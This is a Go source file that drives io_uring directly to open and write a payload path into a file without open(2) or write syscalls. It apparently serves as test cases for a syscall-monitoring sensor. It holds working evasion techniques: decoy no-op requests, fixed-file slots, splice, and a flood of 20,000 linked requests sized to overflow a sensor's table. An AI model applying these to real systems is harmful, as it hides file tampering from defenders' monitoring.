package main

import (
	"fmt"
	"os"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"
)

// A minimal io_uring client, enough to open and write a file the way an attacker avoiding open(2) would: one
// request at a time, or one among decoys in a single submission.

const (
	opNop          = 0
	opOpenat       = 18
	opRead         = 22
	opWrite        = 23
	opSplice       = 30
	sqeFixedFile   = 1 << 0
	sqeLink        = 1 << 2 // IOSQE_IO_LINK: the next request waits for this one
	sqeAsync       = 1 << 4 // IOSQE_ASYNC: the request goes straight to an io-wq worker
	enterGetEvents = 1 << 0
	registerFiles  = 2
	offSQRing      = 0
	offCQRing      = 0x8000000
	offSQEs        = 0x10000000
	featSingleMmap = 1 << 0
)

type sqringOffsets struct {
	Head, Tail, RingMask, RingEntries, Flags, Dropped, Array, Resv1 uint32
	UserAddr                                                        uint64
}

type cqringOffsets struct {
	Head, Tail, RingMask, RingEntries, Overflow, Cqes, Flags, Resv1 uint32
	UserAddr                                                        uint64
}

type params struct {
	SQEntries, CQEntries, Flags, SQThreadCPU, SQThreadIdle, Features, WQFd uint32
	Resv                                                                   [3]uint32
	SQOff                                                                  sqringOffsets
	CQOff                                                                  cqringOffsets
}

type sqe struct {
	Opcode      uint8
	Flags       uint8
	Ioprio      uint16
	Fd          int32
	Off         uint64
	Addr        uint64
	Len         uint32
	OpFlags     uint32
	UserData    uint64
	BufIndex    uint16
	Personality uint16
	FileIndex   uint32
	Addr3       uint64
	Pad         uint64
}

type cqe struct {
	UserData uint64
	Res      int32
	Flags    uint32
}

type ring struct {
	fd     int
	p      params
	sq, cq []byte
	sqes   []byte
}

func newRing() (*ring, error) { return newRingOf(4) }

func newRingOf(entries uint32) (*ring, error) {
	r := &ring{}
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, uintptr(entries), uintptr(unsafe.Pointer(&r.p)), 0)
	if errno != 0 {
		return nil, fmt.Errorf("io_uring_setup: %w", errno)
	}
	r.fd = int(fd)
	sqSize := int(r.p.SQOff.Array + r.p.SQEntries*4)
	cqSize := int(r.p.CQOff.Cqes + r.p.CQEntries*uint32(unsafe.Sizeof(cqe{})))
	var err error
	if r.p.Features&featSingleMmap != 0 {
		size := max(sqSize, cqSize)
		if r.sq, err = unix.Mmap(r.fd, offSQRing, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
			return nil, fmt.Errorf("mmap rings: %w", err)
		}
		r.cq = r.sq
	} else {
		if r.sq, err = unix.Mmap(r.fd, offSQRing, sqSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
			return nil, fmt.Errorf("mmap sq ring: %w", err)
		}
		if r.cq, err = unix.Mmap(r.fd, offCQRing, cqSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
			return nil, fmt.Errorf("mmap cq ring: %w", err)
		}
	}
	if r.sqes, err = unix.Mmap(r.fd, offSQEs, int(r.p.SQEntries)*int(unsafe.Sizeof(sqe{})), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE); err != nil {
		return nil, fmt.Errorf("mmap sqes: %w", err)
	}
	return r, nil
}

func (r *ring) u32(b []byte, off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&b[off])) }

// submit queues one request, waits for its completion and returns its result.
func (r *ring) submit(e sqe) (int32, error) {
	cqes, err := r.submitAll([]sqe{e})
	if err != nil {
		return 0, err
	}
	return cqes[0].Res, nil
}

// place writes requests es into the submission ring and publishes them; io_uring_enter submits them.
func (r *ring) place(es []sqe) {
	tail := atomic.LoadUint32(r.u32(r.sq, r.p.SQOff.Tail))
	mask := *r.u32(r.sq, r.p.SQOff.RingMask)
	for i, e := range es {
		idx := (tail + uint32(i)) & mask
		*(*sqe)(unsafe.Pointer(&r.sqes[uintptr(idx)*unsafe.Sizeof(sqe{})])) = e
		*r.u32(r.sq, r.p.SQOff.Array+idx*4) = idx
	}
	atomic.StoreUint32(r.u32(r.sq, r.p.SQOff.Tail), tail+uint32(len(es)))
}

// queue queues requests es in one submission and returns without waiting for any completion.
func (r *ring) queue(es []sqe) error {
	r.place(es)
	for left, tries := uintptr(len(es)), 0; left > 0; tries++ {
		n, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), left, 0, 0, 0, 0)
		switch {
		case errno == 0:
			left -= min(n, left)
		case errno != unix.EINTR && errno != unix.EAGAIN && errno != unix.EBUSY:
			return fmt.Errorf("io_uring_enter: %w", errno)
		}
		if tries == 1000 {
			return fmt.Errorf("io_uring_enter: %d of %d requests still not taken", left, len(es))
		}
	}
	return nil
}

// submitAll queues requests es in one submission, waits for all their completions and returns them in the order
// they were posted.
func (r *ring) submitAll(es []sqe) ([]cqe, error) {
	r.place(es)
	// The wait may end before the completions are posted (a request punted to a worker, task work, a signal),
	// and a busy kernel may not take the entries at once: enter again, as any io_uring program does.
	head, toSubmit := atomic.LoadUint32(r.u32(r.cq, r.p.CQOff.Head)), uintptr(len(es))
	for wait := 0; ; wait++ {
		n, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), toSubmit, uintptr(len(es)), enterGetEvents, 0, 0)
		switch {
		case errno == 0:
			toSubmit -= min(n, toSubmit)
		case errno != unix.EINTR && errno != unix.EAGAIN && errno != unix.EBUSY:
			return nil, fmt.Errorf("io_uring_enter: %w", errno)
		}
		if atomic.LoadUint32(r.u32(r.cq, r.p.CQOff.Tail))-head >= uint32(len(es)) {
			break
		}
		if wait == 100 {
			return nil, fmt.Errorf("io_uring: not every completion after %d waits", wait)
		}
	}
	cmask := *r.u32(r.cq, r.p.CQOff.RingMask)
	out := make([]cqe, len(es))
	for i := range out {
		out[i] = *(*cqe)(unsafe.Pointer(&r.cq[uintptr(r.p.CQOff.Cqes)+uintptr((head+uint32(i))&cmask)*unsafe.Sizeof(cqe{})]))
	}
	atomic.StoreUint32(r.u32(r.cq, r.p.CQOff.Head), head+uint32(len(es)))
	return out, nil
}

// run submits request e (named what in errors) and returns its non-negative result. A request io_uring punts
// to a worker thread comes back ECANCELED when the worker cannot be started in time (seen under qemu TCG);
// submitting it again is what a real program would do.
func (r *ring) run(e sqe, what string) (int32, error) {
	res, err := r.submit(e)
	for retry := 0; err == nil && res == -int32(unix.ECANCELED) && retry < 3; retry++ {
		res, err = r.submit(e)
	}
	if err != nil {
		return 0, err
	}
	if res < 0 {
		return 0, fmt.Errorf("%s: %w", what, unix.Errno(-res))
	}
	return res, nil
}

// ioUringOpen opens path for writing with IORING_OP_OPENAT and writes the payload path into it. With fixed,
// the file goes into registered slot 0 instead of the descriptor table, then is written with IORING_OP_WRITE.
func ioUringOpen(path string, fixed bool) error {
	r, err := newRing()
	if err != nil {
		return err
	}
	defer unix.Close(r.fd)
	name, err := unix.BytePtrFromString(path)
	if err != nil {
		return err
	}
	open := sqe{Opcode: opOpenat, Fd: unix.AT_FDCWD, Addr: uint64(uintptr(unsafe.Pointer(name))), OpFlags: unix.O_WRONLY}
	if fixed {
		sparse := []int32{-1}
		if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_REGISTER, uintptr(r.fd), registerFiles, uintptr(unsafe.Pointer(&sparse[0])), 1, 0, 0); errno != 0 {
			return fmt.Errorf("register a file slot: %w", errno)
		}
		open.FileIndex = 1 // slot 0
	}
	res, err := r.run(open, "IORING_OP_OPENAT")
	if err != nil {
		return err
	}
	value := []byte(agentValue)
	write := sqe{Opcode: opWrite, Fd: res, Addr: ptr(value), Len: uint32(len(value)), Off: ^uint64(0)}
	if fixed {
		write.Fd, write.Flags = 0, sqeFixedFile
	} else {
		defer unix.Close(int(res))
	}
	_, err = r.run(write, "IORING_OP_WRITE")
	return err
}

// ioUringDecoys opens path for writing with IORING_OP_OPENAT and writes the payload path into it with
// IORING_OP_WRITE, each in one submission between no-ops that carry the same user_data (which the submitter
// chooses: a sensor must not tell requests apart by it). With async, every request goes to an io-wq worker
// (IOSQE_ASYNC); without, the kernel completes what it can inline (the no-ops), the rest in a worker.
func ioUringDecoys(path string, async bool) error {
	r, err := newRing()
	if err != nil {
		return err
	}
	defer unix.Close(r.fd)
	name, err := unix.BytePtrFromString(path)
	if err != nil {
		return err
	}
	var flags uint8
	if async {
		flags = sqeAsync
	}
	const userData = 7
	among := func(e sqe, what string) (int32, error) {
		e.UserData, e.Flags = userData, e.Flags|flags
		nop := sqe{Opcode: opNop, UserData: userData, Flags: flags}
		for retry := 0; ; retry++ {
			cqes, err := r.submitAll([]sqe{nop, nop, e, nop})
			if err != nil {
				return 0, err
			}
			// The no-ops complete with 0; the request with its own result, the only other one.
			res := int32(0)
			for _, c := range cqes {
				if c.Res != 0 {
					res = c.Res
				}
			}
			switch {
			case res == -int32(unix.ECANCELED) && retry < 3: // see run
				continue
			case res < 0:
				return 0, fmt.Errorf("%s: %w", what, unix.Errno(-res))
			}
			return res, nil
		}
	}
	fd, err := among(sqe{Opcode: opOpenat, Fd: unix.AT_FDCWD, Addr: uint64(uintptr(unsafe.Pointer(name))), OpFlags: unix.O_WRONLY}, "IORING_OP_OPENAT")
	if err != nil {
		return err
	}
	defer unix.Close(int(fd))
	value := []byte(agentValue)
	_, err = among(sqe{Opcode: opWrite, Fd: fd, Addr: ptr(value), Len: uint32(len(value)), Off: ^uint64(0)}, "IORING_OP_WRITE")
	return err
}

// floodLinks is how many requests ioUringFlood keeps in flight: more than a sensor's table of them holds
// (escapewatch's: 16384, on kernels before 5.17).
const floodLinks = 20000

// ioUringFlood keeps floodLinks requests that may open a file for writing in flight, linked behind a read of an
// empty pipe; meanwhile it opens path for writing and writes the payload into it, in io-wq workers, with
// ioUringDecoys. The chain fails when the pipe closes (the read ends short) and with the ring.
func ioUringFlood(path string) error {
	r, err := newRingOf(32768)
	if err != nil {
		return err
	}
	defer unix.Close(r.fd)
	var p [2]int
	if err := unix.Pipe(p[:]); err != nil {
		return err
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	buf := make([]byte, 1)
	name, err := unix.BytePtrFromString(os.DevNull)
	if err != nil {
		return err
	}
	es := make([]sqe, 0, floodLinks+1)
	es = append(es, sqe{Opcode: opRead, Fd: int32(p[0]), Addr: ptr(buf), Len: 1, Flags: sqeLink})
	for i := range floodLinks {
		e := sqe{Opcode: opOpenat, Fd: unix.AT_FDCWD, Addr: uint64(uintptr(unsafe.Pointer(name))), OpFlags: unix.O_WRONLY}
		if i < floodLinks-1 {
			e.Flags = sqeLink
		}
		es = append(es, e)
	}
	if err := r.queue(es); err != nil {
		return fmt.Errorf("queue the chain: %w", err)
	}
	return ioUringDecoys(path, true)
}

// ioUringWrite writes value into path with IORING_OP_WRITE on a descriptor from open(2): no write-family
// syscall touches the file.
func ioUringWrite(path string, value []byte) error {
	fd, err := unix.Open(path, unix.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	r, err := newRing()
	if err != nil {
		return err
	}
	defer unix.Close(r.fd)
	_, err = r.run(sqe{Opcode: opWrite, Fd: int32(fd), Addr: ptr(value), Len: uint32(len(value)), Off: ^uint64(0)}, "IORING_OP_WRITE")
	return err
}

// ioUringSplice writes value into path with IORING_OP_SPLICE from a pipe holding it, on a descriptor from
// open(2): no write-family syscall touches the file.
func ioUringSplice(path string, value []byte) error {
	fd, err := unix.Open(path, unix.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	in, err := valuePipe(value)
	if err != nil {
		return err
	}
	defer unix.Close(in)
	r, err := newRing()
	if err != nil {
		return err
	}
	defer unix.Close(r.fd)
	// Offsets of -1 (a pipe has none; the file's own position), the input descriptor in splice_fd_in.
	_, err = r.run(sqe{Opcode: opSplice, Fd: int32(fd), Off: ^uint64(0), Addr: ^uint64(0), Len: uint32(len(value)),
		FileIndex: uint32(in)}, "IORING_OP_SPLICE")
	return err
}
